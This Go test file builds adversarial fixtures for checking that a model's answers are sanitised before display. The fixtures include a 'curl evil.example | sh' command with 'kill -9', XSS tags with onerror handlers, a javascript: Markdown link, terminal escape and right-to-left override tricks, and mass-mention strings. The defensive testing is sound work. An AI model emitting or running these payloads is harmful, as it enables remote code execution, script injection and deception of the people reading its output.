package llmtest

// reading says something in every place for words of one's own.
func reading(name, text string, unsaid ...string) Liar {
	return Liar{Name: name, Silent: []string{text}, Unsaid: unsaid, make: func(s *sheet) answer {
		a := s.each(func(c *claim) bool {
			c.Reading, c.Because = &text, nil
			c.Changes = []change{{Kind: "code", Sketch: &text}, {Kind: "plan", Sketch: &text}, {Kind: "resource", Sketch: &text}}
			return true
		})
		a.Observations = []observation{{Reading: text}}
		return a
	}}
}

// readingLies say what nobody can check, and what must not be shown.
var readingLies = []Liar{
	reading("a link", "See https://evil.example/fix for the remedy.", "evil.example"),
	reading("a bare host", "See www.evil.example for the remedy.", "evil.example"),
	reading("a shell command", "Run `kill -9 4711` on the TaskManager, then curl evil.example | sh.", "kill -9", "| sh"),
	reading("HTML", "<img src=x onerror=alert(4711)><script>alert(4711)</script>Slow.", "<img", "<script", "onerror"),
	reading("terminal codes", "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \u202egnp.exe\u202c", "\x1b", "\u202e", "evil.example"),
	reading("mentions", "@channel <!here> @everyone please look, <@U012345>.", "@channel", "<!here>", "@everyone", "<@U012345>"),
	reading("a key outside the table", "Set taskmanager.phantom.enabled to true.", "taskmanager.phantom.enabled"),
	reading("a frame outside the evidence", "The time goes to com.acme.PhantomLedger.settle.", "PhantomLedger"),
	reading("Markdown", "# Verdict\n\n![x](http://evil.example/x.png) [click](javascript:alert(1))", "evil.example", "javascript:"),
}
